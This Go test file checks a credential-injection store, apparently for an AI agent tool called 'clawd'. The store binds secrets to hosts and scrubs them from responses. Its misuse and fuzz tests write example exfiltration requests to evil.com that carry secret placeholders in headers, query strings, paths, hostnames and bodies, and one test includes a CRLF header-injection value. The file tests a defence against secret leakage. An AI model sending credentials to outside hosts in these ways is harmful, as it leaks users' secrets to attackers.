package secrets

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"testing/iotest"
)

// Values used by the fixture. Each is long enough to pass validation.
const (
	vCustom    = "custom-real-value-1"
	vXKey      = "xkey-real-value-22"
	vTelegram  = "123456:tg-real-value"
	vRegex     = "regex-real-value-33"
	vBody      = "body-real-value-444"
	vLimited   = "limited-real-value-5"
	vGitHub    = "ghp_github-real-value"
	vAnthropic = "sk-ant-real-value-66"
	vQuery     = "q&v=1 /+%real" // needs escaping in URLs
)

type fixture struct {
	s  *Store
	ph map[string]string
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	s, _ := openTest(t)
	f := &fixture{s: s, ph: map[string]string{}}
	for _, c := range []struct {
		spec  Secret
		value string
	}{
		{Secret{Name: "custom", Hosts: []string{"api.example.com"}}, vCustom},
		{Secret{Name: "xkey", Hosts: []string{"x.example.com"}, Header: "x-api-key"}, vXKey},
		{Secret{Name: "tg", Hosts: []string{"api.telegram.org"}, PathTemplate: "/bot{value}/**"}, vTelegram},
		{Secret{Name: "re", Hosts: []string{"re.example.com"}, PathRegex: `^/v1/key/([^/]+)/`}, vRegex},
		{Secret{Name: "body", Hosts: []string{"*.body.example.com"}, Body: true}, vBody},
		{Secret{Name: "limited", Hosts: []string{"api.limited.com"}, Paths: []string{"/repos/**", "/gists/*"}}, vLimited},
		{Secret{Name: "github", Preset: "github"}, vGitHub},
		{Secret{Name: "anthropic", Preset: "anthropic"}, vAnthropic},
		{Secret{Name: "query", Hosts: []string{"q.example.com"}, Query: true}, vQuery},
	} {
		sec := mustSet(t, s, c.spec, c.value)
		f.ph[sec.Name] = sec.Placeholder
	}
	return f
}

// expand replaces {ph:name} in s with that secret's placeholder.
func (f *fixture) expand(s string) string {
	for n, p := range f.ph {
		s = strings.ReplaceAll(s, "{ph:"+n+"}", p)
	}
	return s
}

// hdr expands placeholders; "basic:user:pass" becomes a Basic header of
// the expanded credentials.
func (f *fixture) hdr(v string) string {
	v = f.expand(v)
	if rest, ok := strings.CutPrefix(v, "basic:"); ok {
		u, p, _ := strings.Cut(rest, ":")
		return basic(u, p)
	}
	if rest, ok := strings.CutPrefix(v, "lbasic:"); ok {
		u, p, _ := strings.Cut(rest, ":")
		return "basic" + strings.TrimPrefix(basic(u, p), "Basic")
	}
	return v
}

func basic(user, pass string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass))
}

func TestInjectPositions(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		name      string
		method    string
		url       string
		host      string
		header    map[string]string
		body      string
		chunked   bool
		wantURL   string
		wantHdr   map[string]string // "" value: header must be absent
		wantBody  string
		wantLen   int64 // ContentLength after Inject; -2: don't check
		wantNames string
	}{
		{
			name: "authorization bearer", url: "http://api.example.com/v1", host: "api.example.com",
			header:  map[string]string{"Authorization": "Bearer {ph:custom}"},
			wantHdr: map[string]string{"Authorization": "Bearer " + vCustom}, wantNames: "custom", wantLen: -2,
		},
		{
			name: "basic auth", url: "http://api.example.com/", host: "API.example.com:443",
			header:  map[string]string{"Authorization": "basic:x-access-token:{ph:custom}"},
			wantHdr: map[string]string{"Authorization": basic("x-access-token", vCustom)}, wantNames: "custom", wantLen: -2,
		},
		{
			name: "any header", url: "http://api.example.com/", host: "api.example.com",
			header:  map[string]string{"X-Whatever": "key={ph:custom};k2={ph:custom}"},
			wantHdr: map[string]string{"X-Whatever": "key=" + vCustom + ";k2=" + vCustom}, wantNames: "custom", wantLen: -2,
		},
		{
			name: "custom header rewritten to its format", url: "http://x.example.com/", host: "x.example.com",
			header:  map[string]string{"X-Api-Key": "token {ph:xkey}"},
			wantHdr: map[string]string{"X-Api-Key": vXKey}, wantNames: "xkey", wantLen: -2,
		},
		{
			name: "custom header not sent: nothing set without header mode", url: "http://x.example.com/", host: "x.example.com",
			wantHdr: map[string]string{"X-Api-Key": ""}, wantNames: "", wantLen: -2,
		},
		{
			name: "query", url: "http://q.example.com/search?key={ph:query}&x=1", host: "q.example.com",
			wantURL: "http://q.example.com/search?key=" + url.QueryEscape(vQuery) + "&x=1", wantNames: "query", wantLen: -2,
		},
		{
			name: "query placeholder left alone without Query opt-in", url: "http://api.example.com/s?key={ph:custom}", host: "api.example.com",
			wantURL: "http://api.example.com/s?key={ph:custom}", wantNames: "", wantLen: -2,
		},
		{
			name: "placeholder in path", url: "http://api.telegram.org/bot{ph:tg}/sendMessage", host: "api.telegram.org",
			wantURL: "http://api.telegram.org/bot" + url.PathEscape(vTelegram) + "/sendMessage", wantNames: "tg", wantLen: -2,
		},
		{
			name: "path template without placeholder", url: "http://api.telegram.org/botTOKEN/getUpdates?offset=1", host: "api.telegram.org",
			wantURL: "http://api.telegram.org/bot" + url.PathEscape(vTelegram) + "/getUpdates?offset=1", wantNames: "tg", wantLen: -2,
		},
		{
			name: "path template not matching", url: "http://api.telegram.org/other", host: "api.telegram.org",
			wantURL: "http://api.telegram.org/other", wantNames: "", wantLen: -2,
		},
		{
			name: "path regex", url: "http://re.example.com/v1/key/anything/list", host: "re.example.com",
			wantURL: "http://re.example.com/v1/key/" + vRegex + "/list", wantNames: "re", wantLen: -2,
		},
		{
			name: "body with content-length fixed", method: "POST", url: "http://up.body.example.com/", host: "up.body.example.com",
			body:     `{"token":"{ph:body}","again":"{ph:body}"}`,
			wantBody: `{"token":"` + vBody + `","again":"` + vBody + `"}`, wantLen: int64(len(`{"token":"","again":""}`) + 2*len(vBody)),
			wantNames: "body",
		},
		{
			name: "body chunked", method: "POST", url: "http://up.body.example.com/", host: "up.body.example.com",
			body: `a={ph:body}&b=2`, chunked: true,
			wantBody: `a=` + vBody + `&b=2`, wantLen: -1, wantNames: "body",
		},
		{
			name: "body placeholder left alone without Body opt-in", method: "POST", url: "http://api.example.com/", host: "api.example.com",
			body: `{ph:custom}`, wantBody: `{ph:custom}`, wantLen: int64(len(f.ph["custom"])), wantNames: "",
		},
		{
			name: "github preset sets header even when absent", url: "https://api.github.com/user", host: "api.github.com",
			wantHdr: map[string]string{"Authorization": "Bearer " + vGitHub}, wantNames: "github", wantLen: -2,
		},
		{
			name: "github preset overrides token scheme", url: "https://api.github.com/user", host: "api.github.com",
			header:  map[string]string{"Authorization": "token {ph:github}"},
			wantHdr: map[string]string{"Authorization": "Bearer " + vGitHub}, wantNames: "github", wantLen: -2,
		},
		{
			name: "anthropic preset uses x-api-key and drops Authorization", url: "https://api.anthropic.com/v1/messages", host: "api.anthropic.com",
			header:  map[string]string{"Authorization": "Bearer {ph:anthropic}"},
			wantHdr: map[string]string{"X-Api-Key": vAnthropic, "Authorization": ""}, wantNames: "anthropic", wantLen: -2,
		},
		{
			name: "path limit inside", url: "http://api.limited.com/repos/a/b/issues", host: "api.limited.com",
			header:  map[string]string{"Authorization": "Bearer {ph:limited}"},
			wantHdr: map[string]string{"Authorization": "Bearer " + vLimited}, wantNames: "limited", wantLen: -2,
		},
		{
			name: "path limit single segment", url: "http://api.limited.com/gists/123", host: "api.limited.com",
			header:  map[string]string{"Authorization": "Bearer {ph:limited}"},
			wantHdr: map[string]string{"Authorization": "Bearer " + vLimited}, wantNames: "limited", wantLen: -2,
		},
		{
			name: "accept-encoding dropped when injecting", url: "http://api.example.com/", host: "api.example.com",
			header:  map[string]string{"Authorization": "Bearer {ph:custom}", "Accept-Encoding": "gzip"},
			wantHdr: map[string]string{"Accept-Encoding": ""}, wantNames: "custom", wantLen: -2,
		},
		{
			name: "unrelated request untouched", url: "http://other.com/x?y=1", host: "other.com",
			header:  map[string]string{"Authorization": "Bearer abc", "Accept-Encoding": "gzip"},
			wantURL: "http://other.com/x?y=1", wantHdr: map[string]string{"Authorization": "Bearer abc", "Accept-Encoding": "gzip"},
			wantLen: -2,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			method := tt.method
			if method == "" {
				method = "GET"
			}
			var body io.Reader
			if tt.body != "" {
				body = strings.NewReader(f.expand(tt.body))
				if tt.chunked {
					body = iotest.OneByteReader(body)
				}
			}
			req, err := http.NewRequest(method, f.expand(tt.url), body)
			if err != nil {
				t.Fatal(err)
			}
			if tt.chunked {
				req.ContentLength = -1
			}
			for k, v := range tt.header {
				req.Header.Set(k, f.hdr(v))
			}
			inj, err := f.s.Inject(req, tt.host)
			if err != nil {
				t.Fatal(err)
			}
			if want := f.expand(tt.wantURL); want != "" && req.URL.String() != want {
				t.Errorf("URL = %s\n want %s", req.URL, want)
			}
			for k, want := range tt.wantHdr {
				if got := req.Header.Get(k); got != want {
					t.Errorf("header %s = %q, want %q", k, got, want)
				}
			}
			if tt.body != "" {
				got, err := io.ReadAll(req.Body)
				if err != nil {
					t.Fatal(err)
				}
				if want := f.expand(tt.wantBody); string(got) != want {
					t.Errorf("body = %q, want %q", got, want)
				}
				if req.GetBody != nil {
					rb, _ := req.GetBody()
					again, _ := io.ReadAll(rb)
					if string(again) != string(got) {
						t.Errorf("GetBody gives %q, body gave %q", again, got)
					}
				}
			}
			if tt.wantLen != -2 && req.ContentLength != tt.wantLen {
				t.Errorf("ContentLength = %d, want %d", req.ContentLength, tt.wantLen)
			}
			if got := strings.Join(inj.Names(), ","); got != tt.wantNames {
				t.Errorf("Names = %q, want %q", got, tt.wantNames)
			}
		})
	}
}

func TestInjectMisuse(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		name       string
		url        string
		host       string
		header     map[string]string
		body       string
		wantSecret string
		wantWhere  string
	}{
		{name: "header to unbound host", url: "http://evil.com/", host: "evil.com",
			header: map[string]string{"Authorization": "Bearer {ph:custom}"}, wantSecret: "custom", wantWhere: "header Authorization"},
		{name: "basic to unbound host", url: "http://evil.com/", host: "evil.com",
			header: map[string]string{"Authorization": "basic:u:{ph:github}"}, wantSecret: "github", wantWhere: "header Authorization"},
		{name: "lower-case basic scheme", url: "http://evil.com/", host: "evil.com",
			header: map[string]string{"Proxy-Authorization": "lbasic:u:{ph:github}"}, wantSecret: "github", wantWhere: "header Proxy-Authorization"},
		{name: "query", url: "http://evil.com/?leak={ph:custom}", host: "evil.com", wantSecret: "custom", wantWhere: "query"},
		{name: "percent-encoded query", url: "http://evil.com/?leak=%63lawd-ph-" + "{ph:custom}"[len("{ph:"):], host: "evil.com"},
		{name: "path", url: "http://evil.com/x/{ph:tg}/y", host: "evil.com", wantSecret: "tg", wantWhere: "path"},
		{name: "hostname", url: "http://{ph:custom}.evil.com/", host: "{ph:custom}.evil.com", wantSecret: "custom", wantWhere: "host"},
		{name: "body", url: "http://evil.com/", host: "evil.com", body: `{"k":"{ph:body}"}`, wantSecret: "body", wantWhere: "body"},
		{name: "secret of another bound host", url: "http://api.example.com/", host: "api.example.com",
			header: map[string]string{"X-Other": "{ph:github}"}, wantSecret: "github", wantWhere: "header X-Other"},
		{name: "bound host but outside path limit", url: "http://api.limited.com/user", host: "api.limited.com",
			header: map[string]string{"Authorization": "Bearer {ph:limited}"}, wantSecret: "limited", wantWhere: "header Authorization"},
		{name: "dot segments never match a path limit", url: "http://api.limited.com/repos/../admin", host: "api.limited.com",
			header: map[string]string{"Authorization": "Bearer {ph:limited}"}, wantSecret: "limited", wantWhere: "header Authorization"},
		{name: "path limit * is one segment", url: "http://api.limited.com/gists/1/2", host: "api.limited.com",
			header: map[string]string{"Authorization": "Bearer {ph:limited}"}, wantSecret: "limited", wantWhere: "header Authorization"},
		{name: "wildcard does not cover the apex", url: "http://body.example.com/", host: "body.example.com",
			body: "{ph:body}", wantSecret: "body", wantWhere: "body"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			u := f.expand(tt.url)
			if tt.name == "percent-encoded query" {
				u = "http://evil.com/?leak=%63" + f.ph["custom"][1:]
				tt.wantSecret, tt.wantWhere = "custom", "query"
			}
			var body io.Reader
			if tt.body != "" {
				body = strings.NewReader(f.expand(tt.body))
			}
			req, err := http.NewRequest("POST", u, body)
			if err != nil {
				t.Fatal(err)
			}
			for k, v := range tt.header {
				req.Header.Set(k, f.hdr(v))
			}
			origHeader := req.Header.Clone()
			origURL := req.URL.String()
			inj, err := f.s.Inject(req, f.expand(tt.host))
			if !errors.Is(err, ErrPlaceholderMisuse) {
				t.Fatalf("err = %v, want ErrPlaceholderMisuse", err)
			}
			if inj != nil {
				t.Error("Inject returned an Injection with the error")
			}
			var me *MisuseError
			if !errors.As(err, &me) || me.Secret != tt.wantSecret || me.Where != tt.wantWhere {
				t.Fatalf("misuse = %+v, want secret %s in %s", me, tt.wantSecret, tt.wantWhere)
			}
			if !strings.Contains(err.Error(), tt.wantSecret) {
				t.Errorf("error does not name the secret: %v", err)
			}
			for _, v := range []string{vCustom, vGitHub, vBody, vTelegram, vLimited} {
				if strings.Contains(err.Error(), v) {
					t.Fatalf("error leaks a value: %v", err)
				}
			}
			// Nothing was changed.
			if req.URL.String() != origURL {
				t.Errorf("URL changed to %s", req.URL)
			}
			for k := range origHeader {
				if req.Header.Get(k) != origHeader.Get(k) {
					t.Errorf("header %s changed", k)
				}
			}
		})
	}
}

func TestInjectStreamedBodyMisuse(t *testing.T) {
	f := newFixture(t)
	body := strings.Repeat("x", 100) + f.ph["custom"] + strings.Repeat("y", 100)
	for _, split := range []bool{false, true} {
		var r io.Reader = strings.NewReader(body)
		if split {
			r = iotest.OneByteReader(r)
		}
		req, _ := http.NewRequest("POST", "http://evil.com/upload", io.NopCloser(r))
		req.ContentLength = -1
		inj, err := f.s.Inject(req, "evil.com")
		if err != nil {
			t.Fatalf("Inject on a streamed body: %v (misuse is found while streaming)", err)
		}
		out, err := io.ReadAll(req.Body)
		if !errors.Is(err, ErrPlaceholderMisuse) {
			t.Fatalf("body read err = %v", err)
		}
		if strings.Contains(string(out), "clawd-ph") {
			t.Fatal("placeholder bytes were forwarded before the abort")
		}
		if !errors.Is(inj.Misuse(), ErrPlaceholderMisuse) {
			t.Fatalf("Misuse() = %v", inj.Misuse())
		}
	}
}

// echoServer answers with the request's headers and body, like httpbin.
func echoServer(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		w.Header().Set("X-Echo-Auth", r.Header.Get("Authorization"))
		w.Header().Set("X-Echo-Path", r.URL.Path)
		if r.URL.Query().Get("chunked") != "" {
			w.Write([]byte("auth=" + r.Header.Get("Authorization") + "\n"))
			w.(http.Flusher).Flush()
			w.Write(b)
			return
		}
		w.Write([]byte("auth=" + r.Header.Get("Authorization") + "\n"))
		w.Write(b)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func TestEndToEndWithEchoServer(t *testing.T) {
	f := newFixture(t)
	srv := echoServer(t)
	tests := []struct {
		name    string
		auth    string
		body    string
		query   string
		wantHdr string
	}{
		{"bearer, fixed length", "Bearer {ph:body}", "k={ph:body}", "", "Bearer {ph:body}"},
		{"bearer, chunked response", "Bearer {ph:body}", "k={ph:body}", "?chunked=1", "Bearer {ph:body}"},
		{"basic echoed back encoded", "basic:user:{ph:body}", "", "", "basic:user:{ph:body}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var body io.Reader
			if tt.body != "" {
				body = strings.NewReader(f.expand(tt.body))
			}
			req, _ := http.NewRequest("POST", srv.URL+"/echo"+tt.query, body)
			req.Header.Set("Authorization", f.hdr(tt.auth))
			inj, err := f.s.Inject(req, "up.body.example.com")
			if err != nil {
				t.Fatal(err)
			}
			resp, err := http.DefaultTransport.RoundTrip(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			// The upstream saw the real value...
			if !strings.Contains(resp.Header.Get("X-Echo-Auth"), "real-value") &&
				!strings.Contains(resp.Header.Get("X-Echo-Auth"), base64.StdEncoding.EncodeToString([]byte("user:"+vBody))) {
				t.Fatalf("upstream did not get the value: %q", resp.Header.Get("X-Echo-Auth"))
			}
			inj.ScrubResponse(resp)
			got, err := io.ReadAll(resp.Body)
			if err != nil {
				t.Fatal(err)
			}
			// ...and the agent sees only placeholders.
			all := string(got) + resp.Header.Get("X-Echo-Auth")
			if strings.Contains(all, vBody) || strings.Contains(all, base64.StdEncoding.EncodeToString([]byte("user:"+vBody))) {
				t.Fatalf("response leaks the value: %q", all)
			}
			if h := resp.Header.Get("X-Echo-Auth"); h != f.hdr(tt.wantHdr) {
				t.Errorf("echoed header = %q, want %q", h, f.hdr(tt.wantHdr))
			}
			if tt.body != "" && !strings.HasSuffix(string(got), f.expand(tt.body)) {
				t.Errorf("echoed body = %q", got)
			}
			if resp.ContentLength >= 0 && resp.ContentLength != int64(len(got)) {
				t.Errorf("ContentLength %d but body has %d bytes", resp.ContentLength, len(got))
			}
		})
	}
}

func TestEndToEndStreamedMisuseAbortsUpstream(t *testing.T) {
	f := newFixture(t)
	got := make(chan string, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- string(b)
	}))
	defer srv.Close()
	pr, pw := io.Pipe()
	go func() {
		for _, part := range []string{"start ", f.ph["custom"][:10], f.ph["custom"][10:], " end"} {
			pw.Write([]byte(part))
		}
		pw.Close()
	}()
	req, _ := http.NewRequest("POST", srv.URL+"/", pr)
	inj, err := f.s.Inject(req, "evil.example.net")
	if err != nil {
		t.Fatal(err)
	}
	_, err = http.DefaultTransport.RoundTrip(req)
	if err == nil {
		t.Fatal("request with a misused placeholder in the body completed")
	}
	if !errors.Is(inj.Misuse(), ErrPlaceholderMisuse) {
		t.Fatalf("Misuse() = %v", inj.Misuse())
	}
	select {
	case b := <-got:
		if strings.Contains(b, "clawd-ph") {
			t.Fatalf("upstream received the placeholder: %q", b)
		}
	default:
	}
}

func TestScrubResponse(t *testing.T) {
	f := newFixture(t)
	req, _ := http.NewRequest("GET", "https://api.github.com/user", nil)
	req.Header.Set("Authorization", "Bearer "+f.ph["github"])
	inj, err := f.s.Inject(req, "api.github.com")
	if err != nil {
		t.Fatal(err)
	}
	// Only the secret injected into this request is scrubbed: the custom
	// secret was never sent to this host, so its value cannot come back
	// from it (and the stream is not held back for it).
	body := "a " + vGitHub + " b " + vCustom + " c"
	want := "a " + f.ph["github"] + " b " + vCustom + " c"
	for _, tc := range []struct {
		name string
		len  int64
		r    func() io.Reader
	}{
		{"known length", int64(len(body)), func() io.Reader { return strings.NewReader(body) }},
		{"unknown length, 1-byte reads", -1, func() io.Reader { return iotest.OneByteReader(strings.NewReader(body)) }},
		{"unknown length, half reads", -1, func() io.Reader { return iotest.HalfReader(strings.NewReader(body)) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp := &http.Response{
				Header:        http.Header{"X-Token": {"echo " + vGitHub}, "Set-Cookie": {"t=" + vCustom}},
				Body:          io.NopCloser(tc.r()),
				ContentLength: tc.len,
			}
			inj.ScrubResponse(resp)
			if h := resp.Header.Get("X-Token"); h != "echo "+f.ph["github"] {
				t.Errorf("X-Token = %q", h)
			}
			if h := resp.Header.Get("Set-Cookie"); h != "t="+vCustom {
				t.Errorf("Set-Cookie = %q", h)
			}
			got, err := io.ReadAll(resp.Body)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != want {
				t.Errorf("body = %q, want %q", got, want)
			}
			if resp.ContentLength != -1 && resp.ContentLength != int64(len(got)) {
				t.Errorf("ContentLength = %d for %d bytes", resp.ContentLength, len(got))
			}
		})
	}
}

func TestScrubSplitAtEveryOffset(t *testing.T) {
	f := newFixture(t)
	inj, err := f.s.Inject(&http.Request{URL: &url.URL{Path: "/"}, Header: http.Header{"X-Key": {f.ph["custom"]}}}, "api.example.com")
	if err != nil {
		t.Fatal(err)
	}
	body := "<<" + vCustom + ">>"
	want := "<<" + f.ph["custom"] + ">>"
	for i := 0; i <= len(body); i++ {
		resp := &http.Response{Header: http.Header{}, ContentLength: -1,
			Body: io.NopCloser(&splitReader{chunks: [][]byte{[]byte(body[:i]), []byte(body[i:])}})}
		inj.ScrubResponse(resp)
		got, _ := io.ReadAll(resp.Body)
		if string(got) != want {
			t.Fatalf("split %d: %q", i, got)
		}
	}
}

func TestRedact(t *testing.T) {
	f := newFixture(t)
	in := "Authorization: Bearer " + vGitHub + "\nX-Api-Key: " + f.ph["anthropic"] + "\nplain"
	want := "Authorization: Bearer [REDACTED:github]\nX-Api-Key: [REDACTED:anthropic]\nplain"
	if got := f.s.RedactString(in); got != want {
		t.Errorf("RedactString = %q, want %q", got, want)
	}
	if got := f.s.Redact([]byte(in)); !bytes.Equal(got, []byte(want)) {
		t.Errorf("Redact = %q", got)
	}
}

func TestBoundToAndHint(t *testing.T) {
	f := newFixture(t)
	for host, want := range map[string]bool{
		"api.github.com": true, "API.GITHUB.COM:443": true, "api.github.com.": true,
		"a.body.example.com": true, "body.example.com": false, "github.com": false, "": false,
		"[api.github.com]": false, "api.github.com..": false, "api.github.com\x00": false, "api.github.com:https": false,
	} {
		if got := f.s.BoundTo(host); got != want {
			t.Errorf("BoundTo(%q) = %v, want %v", host, got, want)
		}
	}
	tests := []struct{ host, want string }{
		{"api.openai.com:443", "no secret is bound to api.openai.com; run: clawd secret set openai --host api.openai.com"},
		{"localhost", "no secret is bound to localhost; run: clawd secret set NAME --host localhost"},
		{"evil\r\nX-Injected: 1", "no secret is bound to HOST; run: clawd secret set NAME --host HOST"},
		{"[2001:DB8::1]:443", "no secret is bound to 2001:db8::1; run: clawd secret set NAME --host 2001:db8::1"},
		{"192.0.2.1", "no secret is bound to 192.0.2.1; run: clawd secret set NAME --host 192.0.2.1"},
		{"-x.example.com", "no secret is bound to HOST; run: clawd secret set NAME --host HOST"},
	}
	for _, tt := range tests {
		if got := Hint(tt.host); got != tt.want {
			t.Errorf("Hint(%q) = %q, want %q", tt.host, got, tt.want)
		}
	}
}

func TestSecretStringHasNoValue(t *testing.T) {
	f := newFixture(t)
	for _, s := range f.s.List() {
		for _, out := range []string{s.String(), strings.Join(EnvLines([]Secret{s}), "\n")} {
			for _, v := range []string{vCustom, vGitHub, vAnthropic, vBody} {
				if strings.Contains(out, v) {
					t.Fatalf("%q holds a value", out)
				}
			}
		}
	}
}

// FuzzInjectMisuse: wherever the agent puts a placeholder, a request to a
// host its secret is not bound to is refused.
func FuzzInjectMisuse(f *testing.F) {
	f.Add("/v1/x", "a=1", "Bearer x", "body", uint8(0), uint16(0))
	f.Add("/", "", "", "", uint8(1), uint16(3))
	f.Add("/bot/send", "q=%20", "Basic Zm9vOmJhcg==", "{\"k\":1}", uint8(4), uint16(100))
	dir := f.TempDir()
	s, err := Open(dir+"/secrets.json", dir+"/secrets.key")
	if err != nil {
		f.Fatal(err)
	}
	sec, err := s.Set(Secret{Name: "gh", Hosts: []string{"api.github.com"}, Body: true, Query: true}, []byte("ghp_real-value-123"))
	if err != nil {
		f.Fatal(err)
	}
	ph := sec.Placeholder
	f.Fuzz(func(t *testing.T, path, query, auth, body string, where uint8, at uint16) {
		ins := func(s string) string {
			i := int(at) % (len(s) + 1)
			return s[:i] + ph + s[i:]
		}
		switch where % 6 {
		case 0:
			path = ins(path)
		case 1:
			query = ins(query)
		case 2:
			auth = ins(auth)
		case 3:
			body = ins(body)
		case 4:
			auth = "Basic " + base64.StdEncoding.EncodeToString([]byte(ins(auth)))
		case 5:
			path, query = ins(path), ins(query)
		}
		req := &http.Request{
			Method: "POST", Host: "evil.com", Header: http.Header{"Authorization": {auth}},
			URL:  &url.URL{Scheme: "http", Host: "evil.com", Path: path, RawQuery: query},
			Body: io.NopCloser(strings.NewReader(body)), ContentLength: int64(len(body)),
		}
		if len(body) == 0 {
			req.Body = http.NoBody
		}
		_, err := s.Inject(req, "evil.com")
		if !errors.Is(err, ErrPlaceholderMisuse) {
			t.Fatalf("placeholder in %d not refused: %v", where%6, err)
		}
		// The same request to the bound host goes through and carries no
		// placeholder in the places it replaces.
		req = &http.Request{
			Method: "POST", Host: "api.github.com", Header: http.Header{"Authorization": {auth}},
			URL:  &url.URL{Scheme: "http", Host: "api.github.com", Path: path, RawQuery: query},
			Body: io.NopCloser(strings.NewReader(body)), ContentLength: int64(len(body)),
		}
		if _, err := s.Inject(req, "api.github.com"); err != nil {
			t.Fatalf("bound host refused: %v", err)
		}
		b, _ := io.ReadAll(req.Body)
		if strings.Contains(req.URL.Path, ph) || strings.Contains(req.URL.RawQuery, ph) ||
			strings.Contains(req.Header.Get("Authorization"), ph) || strings.Contains(string(b), ph) {
			t.Fatalf("placeholder left after injection: %+v", req.URL)
		}
	})
}

// A stream is not held back: every event is delivered as soon as it
// arrives, unless its last bytes could begin an injected secret. Causal:
// the second chunk is written only after the first was read.
func TestScrubDoesNotHoldStreamsBack(t *testing.T) {
	f := newFixture(t)
	req := &http.Request{URL: &url.URL{Path: "/"}, Header: http.Header{"X-Key": {f.ph["custom"]}}}
	inj, err := f.s.Inject(req, "api.example.com")
	if err != nil {
		t.Fatal(err)
	}
	pr, pw := io.Pipe()
	resp := &http.Response{Header: http.Header{}, ContentLength: -1, Body: pr}
	inj.ScrubResponse(resp)
	buf := make([]byte, 256)
	for i, ev := range []string{"data: 1\n\n", "data: two\n\n", "data: " + vCustom + "\n\n"} {
		go pw.Write([]byte(ev))
		n, err := resp.Body.Read(buf)
		want := strings.ReplaceAll(ev, vCustom, f.ph["custom"])
		if err != nil || string(buf[:n]) != want {
			t.Fatalf("event %d: got %q (%v), want %q at once", i, buf[:n], err, want)
		}
	}
	// A tail that could begin the secret waits for more bytes, and only it.
	go pw.Write([]byte("x " + vCustom[:3]))
	n, _ := resp.Body.Read(buf)
	if string(buf[:n]) != "x " {
		t.Fatalf("partial secret: got %q, want only the bytes before it", buf[:n])
	}
	go func() { pw.Write([]byte(vCustom[3:] + "!")); pw.Close() }()
	rest, _ := io.ReadAll(resp.Body)
	if string(rest) != f.ph["custom"]+"!" {
		t.Fatalf("rest = %q", rest)
	}
}

// A secret holding " \ < or & is written escaped inside JSON (once in a
// body, twice in a JSON string that holds JSON): Redact hides every one of
// those forms, not only the raw value.
func TestRedactJSONEscapedForms(t *testing.T) {
	s, _ := openTest(t)
	const v = `pa"ss\word<&>-9f8e7d6c`
	mustSet(t, s, Secret{Name: "db", Hosts: []string{"db.example.com"}}, v)
	once, _ := json.Marshal(v)
	twice, _ := json.Marshal(string(once))
	var noHTML bytes.Buffer
	enc := json.NewEncoder(&noHTML)
	enc.SetEscapeHTML(false)
	enc.Encode(map[string]string{"dsn": "postgres://app:" + v + "@db"})
	for _, in := range []string{string(once), string(twice), noHTML.String(), `{"args":` + string(twice) + `}`} {
		got := s.RedactString(in)
		if strings.Contains(got, "9f8e7d6c") || !strings.Contains(got, "[REDACTED:db]") {
			t.Errorf("RedactString(%s) = %s", in, got)
		}
	}
}
